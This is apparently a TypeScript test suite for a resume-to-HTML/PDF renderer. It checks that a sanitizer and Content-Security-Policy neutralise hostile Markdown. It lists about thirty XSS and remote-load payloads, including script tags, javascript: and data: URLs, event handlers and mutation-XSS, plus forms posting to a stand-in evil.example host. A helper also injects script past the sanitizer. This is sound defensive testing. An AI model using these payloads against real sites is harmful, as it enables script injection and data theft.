// Hostile content: a resume that smuggles in scripts, script URLs, event handlers, embedded documents,
// remote styles, remote images or a redirect renders to HTML and PDF with none of them active.
// The HTML is read back with a standards parser (what a browser would build), and a PDF is printed by
// a real Chromium; a local HTTP server stands in for the attacker's host, so "nothing was fetched" is
// observed, not assumed. In CI the browser part must run (it fails instead of skipping).
import { strict as assert } from 'node:assert';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, relative, resolve } from 'node:path';
import { printToPdf } from '../../src/node/pdf';
import { CONTENT_SECURITY_POLICY, renderHtml } from '../../src/core/render';
import { activeContent, cspMetas, cspWeaknesses } from '../helpers/active-content';
import { pdfText, requireTools } from '../helpers/pdf-tools';

/** One hostile construct per case, aimed at `evil` (the attacker's origin). */
interface HostileCase {
  name: string;
  markdown: (evil: string) => string;
}

const CASES: HostileCase[] = [
  { name: 'inline <script>', markdown: () => `<script>document.write('PWNED')</script>` },
  { name: '<script> with a remote src', markdown: (evil) => `<SCRIPT SRC="${evil}/x.js"></SCRIPT>` },
  { name: 'split <scr<script>ipt> tag', markdown: () => `<scr<script>ipt>alert(1)</scr</script>ipt>` },
  { name: '<script> inside a bullet and a heading', markdown: () => `- Led <script>alert(1)</script> a team\n\n### <script>alert(2)</script>Acme` },
  { name: 'javascript: link', markdown: () => `[site](javascript:alert(1))` },
  { name: 'mixed-case JaVaScRiPt: link', markdown: () => `[site](JaVaScRiPt:alert(1))` },
  { name: 'entity-encoded &#106;avascript: link', markdown: () => `[site](&#106;avascript:alert(1)) [hex](&#x6A;avascript:alert(1))` },
  { name: 'javascript: with a tab or leading space', markdown: () => `[tab](java&#x09;script:alert(1)) [space](< javascript:alert(1)>)` },
  { name: 'javascript: autolink and reference link', markdown: () => `<javascript:alert(1)> and [ref][r]\n\n[r]: javascript:alert(2)` },
  { name: 'vbscript: link', markdown: () => `[site](vbscript:msgbox(1))` },
  { name: 'data:text/html link', markdown: () => `[cv](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [cv2](data:text/html,<script>alert(1)</script>)` },
  { name: 'raw <a href=javascript:> with onclick', markdown: () => `<a href="javascript:alert(1)" onclick="alert(2)">portfolio</a>` },
  { name: 'raw <a> with entity-encoded scheme', markdown: () => `<a href="&#x6a;avascript&#x3a;alert(1)">portfolio</a>` },
  { name: '<img onerror>', markdown: () => `<img src=x onerror="document.write('PWNED')">` },
  { name: '<svg onload>', markdown: () => `<svg onload="alert(1)"><circle r="1"/></svg>` },
  { name: '<svg> with a <script>', markdown: () => `<svg><script>alert(1)</script></svg>` },
  { name: 'mutation-XSS through <math> and <style>', markdown: () => `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>` },
  { name: 'other event handlers', markdown: () => `<b onmouseover="alert(1)">bold</b> <div onfocus=alert(1) tabindex=0>div</div> <body onload=alert(1)>` },
  { name: '<iframe>', markdown: (evil) => `<iframe src="${evil}/frame"></iframe> <iframe srcdoc="<script>alert(1)</script>"></iframe>` },
  { name: '<object> and <embed>', markdown: (evil) => `<object data="${evil}/x.swf"></object> <embed src="${evil}/x.swf">` },
  { name: '<style> with @import', markdown: (evil) => `<style>@import url(${evil}/x.css); body { background: url(${evil}/bg.png) }</style>` },
  { name: 'style attribute with url()', markdown: (evil) => `<span style="background:url(${evil}/bg.png)">styled</span>` },
  { name: '<link rel=stylesheet> and <base>', markdown: (evil) => `<link rel="stylesheet" href="${evil}/x.css"><base href="${evil}/">` },
  { name: '<meta http-equiv=refresh>', markdown: (evil) => `<meta http-equiv="refresh" content="0;url=${evil}/">` },
  { name: '<form> with inputs', markdown: (evil) => `<form action="${evil}/steal"><input name=q><button formaction="${evil}/b">go</button></form>` },
  { name: 'external Markdown image', markdown: (evil) => `![logo](${evil}/logo.png)` },
  { name: 'protocol-relative Markdown image', markdown: (evil) => `![logo](${evil.replace(/^https?:/, '')}/logo.png)` },
  { name: 'raw <img src=//host>', markdown: (evil) => `<img src=${evil.replace(/^https?:/, '')}/p.gif> <img src="${evil}/p.gif" alt="pixel">` },
  { name: 'srcset, poster and background', markdown: (evil) => `<img srcset="${evil}/a.png 1x"> <video poster="${evil}/p.png"></video> <table background="${evil}/t.png"><tr><td>x</td></tr></table>` },
  { name: 'SVG data image', markdown: () => `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)` },
  { name: 'reference-style external image', markdown: (evil) => `![logo][img]\n\n[img]: ${evil}/logo.png` },
];

const EVIL = 'https://evil.example';

/** Every case in one document, with a marker after them that must survive. */
function allCases(evil: string): string {
  return [...CASES.map((c) => c.markdown(evil)), '- MARKER-MIDDLE Mentored 4 interns.'].join('\n\n');
}

/** A plausible resume with `hostile` in the middle of it and markers around it. */
function resumeWith(hostile: string, frontMatterName = 'Mallory'): string {
  return `---
name: ${frontMatterName}
---
# Mallory Attacker

mallory@example.com · [github.com/mallory](https://github.com/mallory)

## Experience

### Engineer, Acme — 2023 – Present

- Built a billing service in Go serving 2M requests a day.

${hostile}

- MARKER-AFTER Reduced p99 latency by 40%.
`;
}

/** The print stylesheet is the page's own single <style>; everything else must be inert. */
const problemsIn = (html: string) => activeContent(html, { allowStyleElements: 1 });

describe('hostile content: the HTML checker itself', () => {
  // The checks below are only as good as this detector, so show it catches each kind of problem.
  it('flags scripts, handlers, script and data URLs, remote loads, frames, redirects and remote CSS', () => {
    const bad = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=/x"><style>p{}</style><style>@import url(x.css)</style></head><body>
      <script>1</script><img src="x" onerror="1"><a href="  JaVa&#x09;Script:1">a</a><a href="data:text/html,1">b</a>
      <img src="//evil/x.png"><iframe></iframe><span style="background:url(x)">c</span></body></html>`;
    const found = problemsIn(bad).join('\n');
    for (const expected of ['<script> element', 'onerror> event handler', 'script URL', 'data URL', '<img src="//evil/x.png"> loads', '<iframe> element', '<meta http-equiv="refresh"', '<style> element', '<style> that loads', '<span style> that loads']) {
      assert.ok(found.includes(expected), `detector missed: ${expected}\n${found}`);
    }
    assert.deepEqual(problemsIn('<!doctype html><p><a href="https://example.com">ok</a><img src="data:image/png;base64,AAAA" alt=""></p>'), []);
  });

  it('judges a CSP by its weakest directive', () => {
    assert.deepEqual(cspWeaknesses(CONTENT_SECURITY_POLICY), []);
    assert.ok(cspWeaknesses("default-src 'self'").length > 0);
    assert.ok(cspWeaknesses(`${CONTENT_SECURITY_POLICY}; script-src 'unsafe-inline'`).some((p) => p.startsWith('script-src')));
    assert.ok(cspWeaknesses(CONTENT_SECURITY_POLICY.replace('img-src data:', 'img-src https:')).some((p) => p.startsWith('img-src')));
  });
});

describe('hostile content: rendered HTML has nothing active', () => {
  for (const c of CASES) {
    it(c.name, () => {
      const html = renderHtml(resumeWith(c.markdown(EVIL)));
      assert.deepEqual(problemsIn(html), []);
      assert.deepEqual(html.match(/<[^<>]*evil\.example[^<>]*>/g), null, 'the attacker host is in no tag, not even as a link');
      // The resume around the hostile part is intact.
      assert.match(html, /Built a billing service in Go/);
      assert.match(html, /MARKER-AFTER Reduced p99 latency by 40%/);
    });
  }

  it('keeps code that shows HTML: code spans and fences are text, not markup to strip', () => {
    const html = renderHtml(resumeWith('- Wrote a `<style>` linter\n\n```html\n<script>init()</script>\n```'));
    assert.match(html, /<code>&#x3C;style><\/code>/);
    assert.match(html, /&#x3C;script>init\(\)&#x3C;\/script>/);
    assert.deepEqual(problemsIn(html), []);
  });

  it('all of it at once, with hostile markup in the front matter and the title', () => {
    const md = resumeWith(allCases(EVIL), '"<script>alert(1)</script><img src=x onerror=alert(2)>"').replace('# Mallory Attacker', '# Mallory <img src=x onerror=alert(3)><script>alert(4)</script>');
    const html = renderHtml(md);
    assert.deepEqual(problemsIn(html), []);
    assert.match(html, /<title>Mallory<\/title>/);
    assert.match(html, /MARKER-MIDDLE Mentored 4 interns/);
  });

  it('keeps what is safe: https and mailto links, inline raster images', () => {
    const html = renderHtml(resumeWith('[Portfolio](https://mallory.dev) · [mail](mailto:m@example.com) · ![dot](data:image/png;base64,iVBORw0KGgo=)'));
    assert.match(html, /<a href="https:\/\/mallory\.dev">Portfolio<\/a>/);
    assert.match(html, /<a href="mailto:m@example\.com">mail<\/a>/);
    assert.match(html, /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="dot">/);
    assert.deepEqual(problemsIn(html), []);
  });

  it('declares one strict Content-Security-Policy, first thing in <head>', () => {
    const html = renderHtml(resumeWith(CASES[0].markdown(EVIL)));
    const policies = cspMetas(html);
    assert.equal(policies.length, 1);
    assert.deepEqual(cspWeaknesses(policies[0]), []);
    // A CSP meta only governs what comes after it: nothing but the charset may precede it.
    const head = html.slice(html.indexOf('<head>'), html.indexOf('Content-Security-Policy'));
    assert.deepEqual(head.match(/<[a-z]+/g), ['<head', '<meta', '<meta'], head);
    assert.match(head, /<meta charset="utf-8">\s*<meta http-equiv="$/);
  });
});

describe('hostile content: webviews', () => {
  // Rendered HTML is shown in a browser or printed, never in a VS Code webview (rule docs open in the
  // built-in Markdown preview, which sets its own policy). A webview added later must get a test that
  // checks the HTML it builds with cspWeaknesses() (test/helpers/active-content.ts), listed here.
  const WEBVIEWS_WITH_CSP_TESTS: string[] = [];

  it('every webview the extension opens has a Content-Security-Policy test', () => {
    const src = resolve(__dirname, '../../src');
    const users: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        const path = join(dir, entry.name);
        if (entry.isDirectory()) walk(path);
        else if (/\.[cm]?[jt]s$/.test(entry.name) && /createWebviewPanel|registerWebviewViewProvider|registerCustomEditorProvider|registerWebviewPanelSerializer/.test(readFileSync(path, 'utf8'))) {
          users.push(relative(src, path));
        }
      }
    };
    walk(src);
    assert.deepEqual(users.sort(), WEBVIEWS_WITH_CSP_TESTS);
  });
});

// ---- PDF with a real Chromium ----------------------------------------------------------------


/** A local stand-in for the attacker's host that records every request it gets. */
async function startTrap(): Promise<{ server: Server; origin: string; requests: string[] }> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'image/gif' });
    res.end(Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=', 'base64'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
}


/**
 * Script and remote loads slipped in after sanitizing, as a renderer bug would let them through:
 * only the Content-Security-Policy stands between them and the reader.
 */
function injectPastSanitizer(html: string, origin: string): string {
  return html.replace(
    '<main class="resume">',
    `<main class="resume"><script>document.write('PWNED-BY-SCRIPT')</script>` +
      `<img src="${origin}/injected.gif" onerror="document.body.append('PWNED-BY-HANDLER')">` +
      `<link rel="stylesheet" href="${origin}/injected.css">`,
  );
}

describe('hostile content: PDF printed by Chromium', function () {
  this.timeout(180_000);
  let dir: string;
  let trap: Awaited<ReturnType<typeof startTrap>>;
  beforeEach(async () => {
    dir = mkdtempSync(join(tmpdir(), 'bp-hostile-'));
    trap = await startTrap();
  });
  afterEach(async () => {
    await new Promise((resolve) => trap.server.close(resolve));
    rmSync(dir, { recursive: true, force: true });
  });

  async function print(ctx: Mocha.Context, html: string, name: string): Promise<string> {
    const browser = requireTools(ctx);
    const htmlPath = join(dir, `${name}.html`);
    const pdfPath = join(dir, `${name}.pdf`);
    writeFileSync(htmlPath, html);
    await printToPdf(browser, htmlPath, pdfPath);
    return pdfText(pdfPath);
  }

  it('a hostile resume prints its text with no script run and nothing fetched', async function () {
    const text = await print(this, renderHtml(resumeWith(allCases(trap.origin))), 'hostile');
    assert.match(text, /Mallory Attacker/);
    assert.match(text, /MARKER-MIDDLE Mentored 4 interns/);
    assert.ok(!text.includes('PWNED'), text);
    assert.deepEqual(trap.requests, []);
  });

  it('the Content-Security-Policy alone stops script and remote loads that get past the sanitizer', async function () {
    const html = renderHtml(resumeWith('- Plain bullet.'));
    const text = await print(this, injectPastSanitizer(html, trap.origin), 'csp');
    assert.match(text, /MARKER-AFTER/);
    assert.ok(!text.includes('PWNED'), text);
    assert.deepEqual(trap.requests, []);
  });

  it('control: without the policy, the same injection runs and fetches (so the checks above can fail)', async function () {
    const html = renderHtml(resumeWith('- Plain bullet.')).replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    assert.ok(!html.includes('Content-Security-Policy'));
    const text = await print(this, injectPastSanitizer(html, trap.origin), 'control');
    assert.match(text, /PWNED-BY-SCRIPT/);
    assert.ok(trap.requests.some((r) => r.includes('/injected.')), `no request reached the trap: ${JSON.stringify(trap.requests)}`);
  });
});
